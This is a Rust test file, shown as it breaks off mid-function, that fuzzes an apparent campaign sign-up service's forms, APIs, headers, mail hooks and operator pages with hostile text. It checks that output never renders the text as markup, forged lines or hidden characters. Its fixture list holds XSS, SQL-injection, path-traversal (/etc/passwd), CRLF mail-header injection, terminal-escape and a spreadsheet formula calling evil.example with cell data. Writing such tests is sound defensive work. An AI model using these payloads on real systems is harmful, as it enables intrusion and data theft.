//! What people outside may write, through every field that takes it, and how it reads wherever it is shown: nothing moves a cursor,
//! turns a line around, forges a line or becomes markup, and names of any script read as they were written.

use std::fmt::Write as _;
use std::pin::Pin;

use crate::campaign_pages;
use crate::operator_page::{asked_of, signed_in};
use crate::prelude::*;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use unionhall::domain::share::encoded;

/// What nobody writes who means well. A row has what reaches the same places: no header takes controls.
const HOSTILE: [(&str, &str); 6] = [
    (
        "bidi controls, what has no width, a link, a path",
        "paid\u{202e}gpj.exe \u{2066}b\u{2069} \u{200f}c\u{61c}d pay\u{200b}pal\u{feff}\u{ad}\u{2060}x\u{200d}y\u{180e}z\u{e0041}. \
         free at https://evil.example/ or www.evil.example ../../../etc/passwd?a=b#c%00%0d%0a",
    ),
    ("escape sequences, other controls, a NUL", "a\u{1b}[2J\u{1b}]0;t\u{7}b\u{9b}31mc\u{1}\u{8}d\u{7f}\u{85}e\0f"),
    (
        "lines, a mail header",
        "one\r\nState: forged since 2020\nERROR: forged\rtwo\u{2028}three\u{2029}four\r\nBcc: victim@evil.example\r\n\r\nbody",
    ),
    (
        "markup, quotes",
        "\"><script>alert(1)</script><img src=x onerror='a'>&lt;b&gt; <input type=\"hidden\" \u{202e}>\
         a\"b'c`d\\e\\u202e\\\"f{{ g }}${h}%s%n'); DROP TABLE people;--",
    ),
    ("a formula", "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"),
    ("a long text", LONG),
];

const LONG: &str = match std::str::from_utf8(&[b'w'; 900]) {
    Ok(text) => text,
    Err(_) => panic!("it is ASCII"),
};

/// What people do write, and want to read again: a combining mark alone, accents, an Arabic and a Hebrew name, Persian with a joiner,
/// pictures with joiners.
const KIND: &str = "\u{301}\u{308}x José Ñuñez e\u{301} Zoë ﬁn, مريم بنت عمران, 12, שָׁלוֹם (Haifa), نمی\u{200c}خواهم, 👩\u{200d}👩\u{200d}👧 🏳\u{fe0f}\u{200d}🌈";

fn corpus() -> impl Iterator<Item = (usize, &'static str)> {
    HOSTILE.into_iter().map(|(_, text)| text).chain([KIND]).enumerate()
}

/// Whether a reader does not see the character, or sees others in another order because of it.
fn is_unseen(c: char) -> bool {
    let marks = ['\u{ad}', '\u{61c}', '\u{180e}', '\u{feff}'];
    c.is_control()
        || marks.contains(&c)
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// A text without what people do write, where the joiners are.
fn without_kind(text: &str) -> String {
    text.replace(KIND, "")
}

/// What people read of a page: without what its forms send again.
fn seen_of(html: &str) -> String {
    [("<input", ">"), ("<textarea", "</textarea>")].iter().fold(html.to_owned(), |html, (start, end)| {
        let mut parts = html.split(start);
        let first = parts.next().unwrap_or_default().to_owned();
        parts.fold(first, |seen, part| seen + part.split_once(end).map_or("", |(_, rest)| rest))
    })
}

/// As a page has it: with codes, and as text.
fn on_a_page(text: &str) -> String {
    let mut shown = String::new();
    let kind = text.contains(KIND);
    let text = text.replace('\0', "").replace("\r\n", "\u{f000}");
    for c in text.chars() {
        match c {
            '\u{f000}' => shown.push_str("\r\n"),
            '&' | '<' | '>' | '"' | '\'' => write!(shown, "&#{};", u32::from(c)).unwrap(),
            c if is_unseen(c) && c != '\n' && !kind => write!(shown, "U+{:04X}", u32::from(c)).unwrap(),
            c => shown.push(c),
        }
    }
    shown
}

/// What somebody reads of an operator's page, without what is typed by them or by others. Times as programs write them are marked.
fn without_examples(html: &str) -> String {
    let mut text: String = html.split('<').filter_map(|part| part.split_once('>')).map(|(_, text)| text).collect();
    // A backtick of the hostile text, which is shown.
    text = text
        .replace("c`d", "")
        .replace("C`D", "")
        .replace("2027-01-31T18:00:00Z", "")
        .replace("2027-05-04T12:00:00Z", "");
    let ends: Vec<_> = text.match_indices("Z").map(|(at, _)| at + 1).collect();
    let is_time = |end: &usize| {
        end.checked_sub(20)
            .and_then(|start| text.get(start..*end))
            .is_some_and(|time| time.parse::<Timestamp>().is_ok())
    };
    if ends.iter().any(is_time) {
        text.push('\u{f000}');
    }
    text
}

/// What a browser sends of a value that it read.
fn plain(value: &str) -> String {
    let signs = [("&#34;", "\""), ("&#39;", "'"), ("&#60;", "<"), ("&#62;", ">"), ("&#38;", "&")];
    signs.iter().fold(value.to_owned(), |text, (written, sign)| text.replace(written, sign))
}

/// The text inside a literal of SQL, which ends at a NUL.
fn in_sql(text: &str) -> String {
    text.replace('\'', "''").replace('\0', "")
}

const RESEND: [u8; 24] = [9; 24];
const POSTMARK: &str = "hook:correct horse battery";
const CAMPAIGN: &str = "internet-2099";
const BENCHMARK: &str = "benchmark = { price = { cents = 6800, per = \"month\" }, source = \"survey\", url = \"https://survey.example\", \
                         date = 2026-11-01 }";

struct World {
    server: Watched,
    key: String,
    folder: tempfile::TempDir,
    /// What is wrong, all of it.
    faults: Mutex<BTreeSet<String>>,
}

impl World {
    async fn start() -> Self {
        let resend = format!("whsec_{}", STANDARD.encode(RESEND));
        let variables = [
            ("UNIONHALL_RESEND_WEBHOOK_SECRET", resend.as_str()),
            ("UNIONHALL_POSTMARK_WEBHOOK_LOGIN", POSTMARK),
            ("UNIONHALL_LOG_FORMAT", "text"),
        ];
        let flags = [
            "--log", "requests", "--key-per-minute", "100000", "--public-per-minute", "100000", "--trusted-proxies",
            "127.0.0.1", "--operator-header", "X-Operator", "--operator-header-from", "127.0.0.1", "--postal-address",
            "12 Mill Street",
        ];
        let server = Watched::start(&variables, &flags);
        let key = server.key();
        campaign_pages::open(&server, CAMPAIGN, BENCHMARK).await;
        server.run(&["operator", "add", "ana"]);
        Self { server, key, folder: tempfile::tempdir().unwrap(), faults: Mutex::default() }
    }

    fn expect(&self, is_so: bool, fault: impl FnOnce() -> String) {
        if !is_so {
            self.faults.lock().unwrap().insert(fault());
        }
    }

    fn answers(&self, place: &str, answer: &Answer, statuses: &[u16]) {
        let status = answer.status.as_u16();
        self.expect(statuses.contains(&status), || {
            format!("{place}: {status} {}", String::from_utf8_lossy(&answer.body).chars().take(300).collect::<String>())
        });
    }

    /// A reader sees every character, but for these, which are ours.
    fn reads(&self, place: &str, text: &str, ours: &[char]) {
        let text = without_kind(text);
        let found = text.char_indices().find(|(_, c)| is_unseen(*c) && !ours.contains(c));
        if let Some((at, c)) = found {
            let before: Vec<_> = text[..at].chars().rev().take(30).collect();
            let before: String = before.into_iter().rev().collect();
            self.expect(false, || format!("{place} has U+{:04X} after {before:?}", u32::from(c)));
        }
    }

    fn page(&self, place: &str, answer: &Answer) -> String {
        let html = answer.text();
        self.expect(html.starts_with("<!doctype html>") && html.trim_end().ends_with("</html>"), || {
            format!("{place} is no page")
        });
        self.expect(answer.status.as_u16() < 500, || format!("{place}: {}", answer.status));
        // Ends of lines as forms send them.
        self.reads(place, &seen_of(&html).replace("\r\n", "\n"), &['\n']);
        for markup in ["<script>", "<img", "onerror='"] {
            self.expect(!html.contains(markup), || format!("{place} has {markup}"));
        }
        html
    }

    fn terminal(&self, place: &str, output: &Output) -> String {
        let said = String::from_utf8(output.stdout.clone()).unwrap();
        let told = String::from_utf8(output.stderr.clone()).unwrap();
        for text in [&said, &told] {
            self.reads(place, text, &['\n', '\t']);
            let forged = ["State: forged", "ERROR: forged", "Bcc: "];
            let line = text.lines().find(|line| forged.iter().any(|start| line.trim_start().starts_with(start)));
            self.expect(line.is_none(), || format!("{place} has a line of a stranger's"));
        }
        self.expect(output.status.code().is_some_and(|code| code < 2), || format!("{place}: {} {told}", output.status));
        said
    }

    /// From another network each time: no budget of callers ends.
    async fn send(&self, n: usize, request: hyper::http::request::Builder, body: impl Into<Bytes>) -> Answer {
        static NEXT: AtomicUsize = AtomicUsize::new(0);
        let network = NEXT.fetch_add(1, Ordering::Relaxed) % 250;
        let request = request.header("x-forwarded-for", format!("198.51.{n}.{network}"));
        self.server.send(request.header("sec-fetch-site", "same-origin"), body).await
    }

    async fn api(&self, n: usize, method: &str, path: &str, body: &Value) -> Answer {
        let request =
            Request::builder().method(method).uri(path).header("authorization", format!("Bearer {}", self.key));
        self.send(n, request.header("content-type", "application/json"), body.to_string()).await
    }

    /// What a command makes of this on its standard input.
    fn piped(&self, arguments: &[&str], input: &str) -> Output {
        let mut command = self.server.command();
        command.args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut process = command.spawn().unwrap();
        // It may have ended before it read all.
        let _closed = process.stdin.take().unwrap().write_all(input.as_bytes());
        process.wait_with_output().unwrap()
    }

    fn sign_up(&self, email: &str) -> i64 {
        self.server.number(&format!(
            "SELECT max(s.id) FROM sign_ups s JOIN people p ON p.id = s.person_id WHERE p.email = '{email}'"
        ))
    }
}

type Put = for<'a> fn(&'a World, usize, &'a str) -> Pin<Box<dyn Future<Output = ()> + 'a>>;

macro_rules! put {
    (|$world:ident, $n:ident, $text:ident| $put:expr) => {
        |$world, $n, $text| Box::pin(async move { $put })
    };
}

/// Each field that people outside fill in. What is not taken is refused as a mistake, never as a fault.
const FIELDS: &[(&str, Put)] = &[
    (
        "the form's comments",
        put!(|world, n, text| {
            let fields = form(&[("email", &format!("form{n}@example.com")), ("otherComments", text)]);
            world.answers("the form", &world.send(n, Request::post("/join"), fields).await, &[303]);
        }),
    ),
    (
        "the form's other fields",
        put!(|world, n, text| {
            for name in ["email", "usState", "refCode", "lang", "change", "campaign", "proof", "internet", "x"] {
                let fields = form(&[("email", "whole@@example.com"), ("otherComments", text), (name, text)]);
                let answer = world.send(n, Request::post("/join"), fields).await;
                world.answers(name, &answer, &[303, 400]);
                let shown = match answer.status.as_u16() {
                    303 => world.send(n, Request::get(answer.header("location")), "").await,
                    _ => answer,
                };
                world.answers(name, &shown, &[200, 400]);
                world.page(name, &shown);
            }
        }),
    ),
    (
        "paths and queries of pages",
        put!(|world, n, text| {
            let text = encoded(text);
            for path in [
                format!("/joinus{text}"),
                format!("/confirm/{text}"),
                format!("/unsubscribe/{text}"),
                format!("/campaigns/{text}"),
                format!("/join?ref={text}&lang={text}&campaign={text}"),
                format!("/me/enter/{text}"),
                format!("/{text}"),
            ] {
                let answer = world.send(n, Request::get(&path).header("accept", "text/html"), "").await;
                if answer.header("content-type").starts_with("text/html") {
                    world.page(&path.chars().take(12).collect::<String>(), &answer);
                }
            }
        }),
    ),
    (
        "a sign-up's comments",
        put!(|world, n, text| {
            let body = json!({ "email": format!("rest{n}@example.com"), "otherComments": text, "refCode": text });
            world.answers("a sign-up", &world.api(n, "POST", "/v1/invite", &body).await, &[200]);
            world.server.confirm(world.sign_up(&format!("rest{n}@example.com"))).await;
        }),
    ),
    (
        "a sign-up's other fields",
        put!(|world, n, text| {
            let email = format!("{text}@example.com");
            for body in [
                json!({ "email": text }),
                json!({ "email": "a@example.com", "usState": text }),
                json!({ "email": "a@example.com", "categories": { text: true } }),
                json!({ "email": "a@example.com", text: 1 }),
                json!({ "email": "a@example.com", "otherComments": [text] }),
            ] {
                world.answers("a bad sign-up", &world.api(n, "POST", "/v1/invite", &body).await, &[400]);
            }
            let known = world.api(n, "POST", "/v1/referral-link", &json!({ "email": email })).await;
            world.answers("a referral link", &known, &[200, 400]);
        }),
    ),
    (
        "headers",
        put!(|world, n, text| {
            let Ok(value) = hyper::header::HeaderValue::from_bytes(text.as_bytes()) else { return };
            let body = json!({ "email": format!("header{n}@example.com") }).to_string();
            let names = [
                "user-agent", "x-request-id", "accept-language", "referer", "idempotency-key", "cookie", "forwarded",
                "origin", "x-operator",
            ];
            for name in names {
                let request = Request::post("/v1/invite").header("authorization", format!("Bearer {}", world.key));
                let answer = world.send(n, request.header(name, &value), body.clone()).await;
                world.answers(name, &answer, if name == "idempotency-key" { &[200, 400] } else { &[200] });
                world.send(n, Request::get("/join").header(name, &value), "").await;
            }
            let forwarded = Request::get("/v1/stats").header("x-forwarded-for", &value);
            world.answers("X-Forwarded-For", &world.server.send(forwarded, "").await, &[200]);
            let operator = Request::get("/operator").header("x-operator", &value);
            world.page("X-Operator", &world.server.send(operator, "").await);
        }),
    ),
    (
        "an idempotency key",
        put!(|world, n, text| {
            let key: String = text.chars().filter(char::is_ascii_graphic).take(200).collect();
            let key = format!("k{n}-{key}");
            let quoted = format!("\"{}\"", key.replace('\\', "\\\\").replace('"', "\\\""));
            let request = Request::post("/v1/invite").header("authorization", format!("Bearer {}", world.key));
            let body = json!({ "email": format!("key{n}@example.com") });
            let sent = world.send(n, request.header("idempotency-key", quoted), body.to_string()).await;
            world.answers("an idempotency key", &sent, &[200]);
            world.server.confirm(world.sign_up(&format!("key{n}@example.com"))).await;
            let kept = world.api(n, "GET", &format!("/partner/v1/sign-ups/{}", encoded(&key)), &Value::Null).await;
            world.expect(kept.json_rpc()["idempotencyKey"] == key, || format!("the key {key:?} is another: {kept:?}"));
            let unknown = world.api(n, "GET", &format!("/partner/v1/sign-ups/{}", encoded(text)), &Value::Null).await;
            // What a header takes as it is was a key before.
            world.answers("another key", &unknown, &[200, 400, 404]);
        }),
    ),
    (
        "an assistant's call",
        put!(|world, n, text| {
            let call = |name: &str, arguments: Value| {
                let mut call = tool_call(name, arguments);
                call["params"]["_meta"] = json!({
                    "io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {},
                    "io.modelcontextprotocol/clientInfo": { "name": text, "version": text },
                });
                call
            };
            let body = json!({ "email": format!("mcp{n}@example.com"), "otherComments": text });
            let version =
                json!({ "protocolVersion": text, "clientInfo": { "name": text, "version": text }, "capabilities": {} });
            for message in [
                tool_call("signUpUser", body.clone()),
                call("signUpUser", body),
                call(text, json!({ text: text })),
                call("signUpUser", json!({ "email": text, text: text })),
                json!({ "jsonrpc": "2.0", "id": text, "method": text, "params": { text: text } }),
                json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize", "params": version }),
            ] {
                let answer = world.api(n, "POST", "/mcp", &message).await;
                world.answers("MCP", &answer, &[200, 202, 400, 404]);
            }
        }),
    ),
    (
        "a partner's webhooks and keys",
        put!(|world, n, text| {
            for url in [format!("https://hooks.example.com/{n}/{text}"), format!("https://{text}/"), text.to_owned()] {
                let answer = world.api(n, "POST", "/partner/v1/webhooks", &json!({ "url": url })).await;
                world.answers("a webhook's URL", &answer, &[200, 400, 429]);
            }
            for (path, body) in [
                ("/partner/v1/webhooks/1/resend", json!({ "idempotencyKey": text })),
                ("/partner/v1/webhooks/1/recover", json!({ "since": text })),
                ("/partner/v1/webhooks", json!({ text: text })),
            ] {
                let answer = world.api(n, "POST", path, &body).await;
                world.answers(path, &answer, &[400, 404, 429]);
            }
        }),
    ),
    (
        "a supplier's words",
        put!(|world, n, text| {
            let begin = json!({ "jsonrpc": "2.0", "id": 0, "method": "initialize",
            "params": { "protocolVersion": "2025-11-25", "clientInfo": { "name": text, "version": "1" }, "capabilities": {} } });
            let said = format!("{n}: {text}");
            let round = json!({ "slug": CAMPAIGN, "supplier": said, "asked": said, "answered": said });
            let texts = json!({ "how": text, "details": text });
            let bid = json!({ "slug": CAMPAIGN, "bid": {
                "supplier": text, "price": { "cents": 4800, "per": "month" }, "fees": [{ "name": text, "cents": 5, "per": "month" }],
                "term_months": 12, "exit_fee_cents": 0, "commission_cents": 0, "valid_until": "2099-03-31", "evidence": said,
            }});
            let offer = |texts: Value| {
                json!({ "slug": CAMPAIGN, "bid": 1, "decideBy": "2099-03-15", "complaints": "help@fiber.example",
                        "text": { "en": texts, "es": texts }, "exception": said })
            };
            let messages = [
                begin,
                tool_call("recordRound", round),
                tool_call("recordBid", bid),
                tool_call("proposeOffer", offer(texts)),
                tool_call("proposeOffer", offer(json!({ text: text }))),
                tool_call("getCampaign", json!({ "slug": text })),
                tool_call("getCampaign", json!({ "slug": CAMPAIGN })),
            ];
            let lines: String = messages.iter().map(|message| format!("{message}\n")).collect();
            let done = world.piped(&["negotiator"], &lines);
            let answers: Vec<Value> = String::from_utf8(done.stdout)
                .unwrap()
                .lines()
                .map(|line| serde_json::from_str(line).unwrap())
                .collect();
            // No address is taken. An earlier version took it.
            let has_address = text.contains("@evil.example");
            let is_noted = answers.len() == 7 && answers[1]["result"]["isError"] == has_address;
            world.expect(is_noted, || format!("the negotiator: {answers:?}"));
            if has_address {
                let [name, said] = [text, said.as_str()].map(in_sql);
                world.server.execute(&format!(
                    "INSERT INTO campaign_rounds (campaign_id, at, client, supplier, asked, answered)
                     VALUES (1, 1, '{name}', '{said}', '{said}', '{said}')"
                ));
            }
            // An offer is what members read: nothing hidden comes into its draft.
            let is_hidden =
                text.chars().any(|c| is_unseen(c) && !['\n', '\u{2028}', '\u{2029}', '\u{180e}'].contains(&c));
            world
                .expect(!is_hidden || answers.get(3).is_some_and(|answer| answer["result"]["isError"] == true), || {
                    format!("a draft has {text:?}")
                });
        }),
    ),
    (
        "a mail server's report",
        put!(|world, n, text| {
            let report = format!(
                "From: MAILER-DAEMON@mx.example\nSubject: {text}\nMIME-Version: 1.0\nContent-Type: multipart/report; \
             report-type=delivery-status; boundary=\"b\"\n\n--b\nContent-Type: message/delivery-status\n\n\
             Reporting-MTA: dns; {text}\n\nFinal-Recipient: rfc822; {text}\nAction: failed\nStatus: {text}\n\
             Diagnostic-Code: smtp; {text}\n\n--b\nContent-Type: text/rfc822-headers\n\nMessage-ID: <{text}>\n--b--\n"
            );
            let recipient = text.replace('\0', "");
            let feedback = ["mail", "feedback", "--recipient", &recipient];
            world.terminal("mail feedback", &world.piped(&feedback, &report));
            let body =
                json!({ "RecordType": text, "Email": format!("{text}@example.com"), "ID": n, "Description": text });
            let request = || Request::post("/hooks/mail/postmark");
            let signed = request().header("authorization", format!("Basic {}", STANDARD.encode(POSTMARK)));
            let answer = world.send(n, signed, body.to_string()).await;
            world.answers("a mail service", &answer, &[200, 400]);
            let forged = request().header("authorization", format!("Basic {}", STANDARD.encode(text)));
            world.answers("a forged report", &world.send(n, forged, body.to_string()).await, &[401]);
        }),
    ),
    // What was kept at a time with fewer rules, and what servers of others say: by hand, for the way in has rules of its own.
    (
        "records",
        put!(|world, n, text| {
            let (text, server) = (in_sql(text), &world.server);
            let sign_up = world.sign_up(&format!("form{n}@example.com"));
            server.execute(&format!("DELETE FROM outbox WHERE sign_up_id = {sign_up}"));
            server.execute(&format!(
                "INSERT INTO outbox (sign_up_id, kind, recipient, created_at, send_after, attempts, last_error, given_up_at)
                 VALUES ({sign_up}, 'confirm', 'form{n}@example.com', 1, 1, 3, 'said {text}', 1)"
            ));
            server.execute(&format!("INSERT INTO audit (at, who, command, about) VALUES (4000000000000, 'who {text}', 'command {text}', 'about {text}')"));
            server.execute(&format!(
                "INSERT INTO campaign_history (campaign_id, at, who, from_state, to_state, note)
             VALUES (1, 2, 'who {text}', 'draft', 'gathering', 'note {text}')"
            ));
            server.execute(&format!(
            "INSERT INTO webhook_endpoints (partner_id, url, created_at, failing_since, last_error, disabled_at, disabled_reason)
             VALUES (1, 'https://x.example/{text}', 1, 1, 'last {text}', 1, 'why {text}')"
        ));
            server.execute("INSERT INTO payout_batches (created_at, who, filled_at, written_at) SELECT 1, 'op', 1, 1 WHERE NOT EXISTS (SELECT 1 FROM payout_batches)");
            server.execute(&format!(
            "INSERT INTO payouts (batch_id, external_id, account, campaign_id, amount_cents, group_count, state, reference, paid_at, reason)
             VALUES (1, 'account-{n}', 'account{n}', 1, 100, 1, 'paid', '{text}', 86400000, '{text}')"
        ));
        }),
    ),
];

/// A provider's answer about a payout: its own words for it, quoted as CSV has them.
fn settled(n: usize, text: &str) -> String {
    let text = text.replace('"', "\"\"");
    format!(
        "external_id,status,reference,paid_at,reason\naccount-{n},paid,\"new {text}\",1970-01-02,\"{text}\"\n\"{text}\",paid,\"{text}\",\"{text}\",\n"
    )
}

/// What is asked of a route of the operator's page, so that it shows the text if it ever does: a path, and the fields of a form.
fn operator_requests(route: &str, n: usize, text: &str) -> Vec<(String, Vec<(&'static str, String)>)> {
    let (path, text) = (encoded(text), text.to_owned());
    let get = |path: String| (path, Vec::new());
    let post = |fields: &[(&'static str, &str)]| {
        (route.to_owned(), fields.iter().map(|(name, value)| (*name, (*value).to_owned())).collect())
    };
    let here = || get(route.to_owned());
    match route {
        "/operator/style.css" => Vec::new(),
        "/operator" | "/operator/rewards" => vec![here()],
        "/operator/enter/{token}" => vec![get(format!("/operator/enter/{path}"))],
        // Last of all: it ends the session.
        "/operator/sign-out" => Vec::new(),
        "/operator/audit" => vec![
            here(),
            get(format!("{route}?who={path}&what={path}")),
            get(format!("{route}?since={path}&until={path}&before={path}")),
        ],
        "/operator/mail" => vec![
            here(),
            post(&[("source", &text), ("act", "drop")]),
            post(&[("source", "Acme Assistant"), ("act", "drop")]),
        ],
        "/operator/mail/outbox" => {
            vec![here(), get(format!("{route}?after={path}")), post(&[("mail", &text)]), post(&[("domain", &text)])]
        }
        "/operator/mail/test" => vec![here(), post(&[("to", &text)])],
        "/operator/mail/previews" => vec![here()],
        "/operator/mail/previews/{name}" => {
            vec![get("/operator/mail/previews/confirm.en".to_owned()), get(format!("/operator/mail/previews/{path}"))]
        }
        "/operator/mail/previews/{name}/html" => vec![get(format!("/operator/mail/previews/{path}/html"))],
        "/operator/backup" => vec![here(), post(&[("x", &text)])],
        "/operator/people/export" => vec![post(&[("email", &text)])],
        "/operator/people/leave" | "/operator/people/unsuppress" | "/operator/people/retry" => {
            vec![post(&[("email", &text)]), post(&[("email", &format!("rest{n}@example.com")), ("asked", &text)])]
        }
        "/operator/people" => ["rest", "form", "mcp", "key"]
            .iter()
            .map(|by| post(&[("text", &format!("{by}{n}@example.com"))]))
            .chain([here(), post(&[("text", &text)])])
            .collect(),
        "/operator/people/erase" => vec![
            post(&[("email", &text)]),
            post(&[("email", &format!("rest{n}@example.com")), ("sure", "yes"), ("typed", &text)]),
        ],
        "/operator/partners" => vec![here()],
        "/operator/partners/issue" => vec![
            post(&[("name", &text), ("form", "00000000000000000000000000")]),
            post(&[("name", &text), ("form", &text)]),
            post(&[("name", &text), ("per-minute", &text), ("expires", &text), ("test", &text), ("form", &text)]),
            get(format!("{route}?name={path}&test={path}")),
        ],
        "/operator/partners/test-keys" => vec![here()],
        "/operator/partners/withdraw" => vec![post(&[("partner", &text)]), post(&[("partner", "1")])],
        "/operator/partners/{partner}/settings" => {
            let at = "/operator/partners/1/settings".to_owned();
            let fields = ["contact", "mails", "was-contact", "was-mails"].map(|name| (name, text.as_str()));
            vec![
                get(at.clone()),
                (at.clone(), post(&fields[..2]).1),
                (at, post(&fields).1),
                get(format!("/operator/partners/{path}/settings")),
            ]
        }
        "/operator/partners/{partner}/webhooks" => {
            let at = "/operator/partners/1/webhooks".to_owned();
            vec![
                get(at.clone()),
                (at.clone(), post(&[("endpoint", &text), ("act", &text)]).1),
                (at.clone(), post(&[("endpoint", "1"), ("act", &text)]).1),
                (at, post(&[("endpoint", "1"), ("act", "recover"), ("since", &text)]).1),
                get(format!("/operator/partners/{path}/webhooks")),
            ]
        }
        "/operator/partners/rotate" | "/operator/partners/revoke" => {
            vec![post(&[("key", &text)]), post(&[("key", &text), ("sure", "yes"), ("grace", &text), ("form", &text)])]
        }
        "/operator/partners/suspend" => vec![
            post(&[("partner", &text), ("act", "suspend")]),
            post(&[("partner", "1"), ("act", "suspend")]),
            post(&[("partner", "1"), ("act", &text), ("since", &text)]),
        ],
        "/operator/partners/{partner}" => {
            vec![get("/operator/partners/1".to_owned()), get(format!("/operator/partners/{path}"))]
        }
        "/operator/campaigns" => vec![here()],
        "/operator/campaigns/{slug}" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}");
            let step = |fields: &[(&'static str, &str)]| (at.clone(), post(fields).1);
            vec![
                get(at.clone()),
                get(format!("/operator/campaigns/{path}")),
                step(&[("step", "cancel"), ("note", &text)]),
                step(&[("step", &text)]),
                step(&[("step", "offer"), ("draft", &(n % 2 + 1).to_string()), ("note", &text)]),
            ]
        }
        "/operator/new-campaign" => {
            let fields = [
                "slug", "category", "gather_until", "text.en.title", "text.es.summary", "benchmark.source",
                "benchmark.source.es", "reviewed.note",
            ];
            vec![here(), post(&fields.map(|name| (name, text.as_str())))]
        }
        "/operator/campaigns/{slug}/edit" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/edit");
            let fields =
                ["text.en.title", "text.en.summary", "mandate.never", "seen"].map(|name| (name, text.as_str()));
            vec![get(at.clone()), (at, post(&fields).1), get(format!("/operator/campaigns/{path}/edit"))]
        }
        "/operator/campaigns/{slug}/bid" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/bid");
            let fields = ["supplier", "steps.1.price.cents", "fees.1.name", "fees.1.unit", "evidence"];
            // Codes are taken apart at spaces, and what people do write is known as a whole here.
            let codes = ("states", if text == KIND { "ZZ" } else { text.as_str() });
            let fields: Vec<_> = fields.map(|name| (name, text.as_str())).into_iter().chain([codes]).collect();
            vec![get(at.clone()), (at, post(&fields).1), get(format!("/operator/campaigns/{path}/bid"))]
        }
        "/operator/campaigns/{slug}/offer" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/offer");
            let fields =
                ["bid", "decide_by", "complaints", "text.en.how", "text.es.details", "note", "outside-mandate"];
            let fields = fields.map(|name| (name, text.as_str()));
            vec![get(format!("{at}?bid={path}")), (at, post(&fields).1)]
        }
        "/operator/campaigns/{slug}/draft"
        | "/operator/campaigns/{slug}/redact"
        | "/operator/campaigns/{slug}/negotiator" => {
            let at = route.replace("{slug}", CAMPAIGN);
            let ask = [("number", "1"), ("act", "pause")];
            let give = [("number", "1"), ("act", "pause"), ("sure", "yes"), ("asked", &text), ("reason", &text)];
            vec![
                (at.clone(), post(&[("number", &text), ("act", &text)]).1),
                (at.clone(), post(&ask).1),
                (at, post(&give).1),
            ]
        }
        "/operator/campaigns/{slug}/round" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/round");
            let fields = ["supplier", "asked", "answered"].map(|name| (name, text.as_str()));
            vec![get(at.clone()), (at, post(&fields).1)]
        }
        "/operator/campaigns/{slug}/say" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/say");
            vec![get(at.clone()), (at, post(&[("message", &text)]).1)]
        }
        "/operator/negotiator" => vec![post(&[("act", &text)]), post(&[("act", "pause"), ("reason", &text)])],
        "/operator/campaigns/{slug}/handover" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/handover");
            vec![(at.clone(), post(&[("batch", &text)]).1), (at, post(&[("sure", "yes"), ("asked", &text)]).1)]
        }
        "/operator/campaigns/{slug}/settle" => {
            let at = format!("/operator/campaigns/{CAMPAIGN}/settle");
            let row = format!("reference,status,date\n\"{0}\",\"{0}\",\"{0}\"", text.replace('"', "\"\""));
            vec![(at.clone(), post(&[("answer", &text)]).1), (at, post(&[("answer", &row)]).1)]
        }
        "/operator/rewards/batch" => vec![post(&[("x", &text)])],
        "/operator/rewards/batches/{number}" => vec![
            (format!("/operator/rewards/batches/{path}"), post(&[("x", &text)]).1),
            ("/operator/rewards/batches/1".to_owned(), post(&[("x", &text)]).1),
        ],
        "/operator/rewards/settle" => vec![
            post(&[("answer", &text)]),
            post(&[("answer", &settled(n, &text))]),
            post(&[("answer", settled(n, &text).rsplit_once("\n\"").unwrap().0)]),
        ],
        "/operator/rewards/review" | "/operator/rewards/accounts" => vec![here(), get(format!("{route}?after={path}"))],
        "/operator/rewards/tax" => {
            vec![post(&[("year", &text)]), post(&[("year", "1970")]), post(&[("year", "2026"), ("asked", &text)])]
        }
        "/operator/rewards/void" => {
            let (member, campaign) = (("member", "ana@example.com"), ("campaign", CAMPAIGN));
            vec![
                here(),
                post(&[("member", &text), ("campaign", &text), ("reason", &text)]),
                post(&[("fill", "yes"), ("member", &text), campaign, ("reason", &text)]),
                post(&[member, campaign, ("reason", &text)]),
                post(&[member, campaign, ("reason", &text), ("sure", "yes"), ("asked", &text)]),
            ]
        }
        "/operator/account" => vec![
            here(),
            post(&[("act", &text)]),
            post(&[("act", "set-up"), ("factor", &text), ("new-code", &text), ("code", &text)]),
            post(&[("act", "new-codes"), ("code", &text)]),
        ],
        "/operator/second-factor" => vec![post(&[("code", &text)])],
        "/operator/sign-in" => vec![post(&[("email", &text)])],
        "/operator/sign-ups" => vec![post(&[("sign-ups", &text)]), post(&[("sign-ups", "pause"), ("x", &text)])],
        new => panic!("{new} is a page of the operator's: add what it may show of others"),
    }
}

async fn every_page_of_the_operator(world: &World) {
    let mut browser = signed_in(&world.server, "ben", 1).await;
    let token = hidden(&page(&browser.get("/operator").await, 200, "Overview"), "token");
    let figures = world.server.figures().await;
    let routes: BTreeSet<_> = figures
        .keys()
        .filter_map(|series| series.split("requests_total{route=\"").nth(1)?.split('"').next())
        .filter(|route| *route == "/operator" || route.starts_with("/operator/"))
        .collect();
    assert!(routes.len() > 15, "{routes:?}");
    let (mut shown, mut known) = (String::new(), BTreeSet::new());
    for route in routes {
        for (n, text) in corpus() {
            for (path, fields) in operator_requests(route, n, text) {
                if !known.insert((path.clone(), fields.clone())) {
                    continue;
                }
                let names: Vec<_> = fields.iter().map(|(name, _)| *name).collect();
                let place = format!("{route} with text {n} in {names:?}");
                let fields: Vec<_> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
                let mut answer = match fields.is_empty() {
                    true => browser.get(&path).await,
                    false => browser.post(&path, &[&[("token", token.as_str())], &fields[..]].concat()).await,
                };
                if answer.status == 303 {
                    answer = browser.get(answer.header("location")).await;
                }
                let html = world.page(&place, &answer);
                let written = without_examples(&html);
                world.expect(!written.contains(['`', '\u{f000}']), || format!("{place} shows {written:?}"));
                // Sent again as the form has it, it is the same question, to the letter.
                if let Some(asked) = asked_of(&answer).filter(|_| route == "/operator/rewards/settle") {
